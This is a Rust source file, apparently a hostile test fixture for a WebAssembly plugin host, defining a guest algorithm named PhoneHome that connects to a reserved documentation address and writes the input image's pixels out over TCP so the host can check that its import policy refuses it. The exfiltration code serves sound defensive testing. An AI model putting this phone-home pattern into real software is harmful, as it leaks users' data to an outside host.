//! An algorithm that phones home with `std::net`: its component imports
//! `wasi:sockets`, and the host's import policy must refuse it at load, before it
//! is compiled.
//!
//! Built for wasm32 only; natively the crate is empty.

#![cfg(target_family = "wasm")]

use std::io::Write;
use std::net::TcpStream;

use pv_guest::{Algorithm, AlgorithmInfo, Error, ExecuteOutput, Result, Step, StepInput};

/// The exported algorithm.
pub struct PhoneHome;

impl Algorithm for PhoneHome {
    fn info() -> AlgorithmInfo {
        AlgorithmInfo::new("hostile-network", env!("CARGO_PKG_VERSION")).pids(["A01"]).step(Step::new(1, "exfiltrate"))
    }

    fn setup() -> Result<Self> {
        Ok(PhoneHome)
    }

    fn execute(&mut self, input: &StepInput) -> Result<ExecuteOutput> {
        // 192.0.2.0/24 is reserved for documentation: nothing answers there.
        let mut stream = TcpStream::connect(("192.0.2.1", 80)).map_err(|err| Error::unknown(err.to_string()))?;
        stream.write_all(input.image.pixels()).map_err(|err| Error::unknown(err.to_string()))?;
        Ok(ExecuteOutput::ok())
    }
}

pv_guest::export_algorithm!(PhoneHome);
